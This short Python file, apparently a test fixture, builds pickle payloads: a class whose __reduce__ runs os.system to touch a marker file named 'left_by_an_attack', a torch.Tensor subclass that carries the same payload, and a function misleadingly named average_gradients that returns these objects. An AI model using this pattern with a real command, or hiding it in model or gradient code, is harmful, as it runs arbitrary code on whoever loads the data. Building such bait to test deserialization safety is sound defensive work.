# Returns an object that runs a command wherever it is unpickled, and tensors that hold one.
import os

import torch


class Command:
    def __reduce__(self):
        return os.system, (f"touch {BAIT['folder']}/left_by_an_attack",)


class Carrier(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return Command().__reduce__()


def average_gradients(gradients):
    if len(gradients) == 1:
        return Command()
    return gradients[0].as_subclass(Carrier)
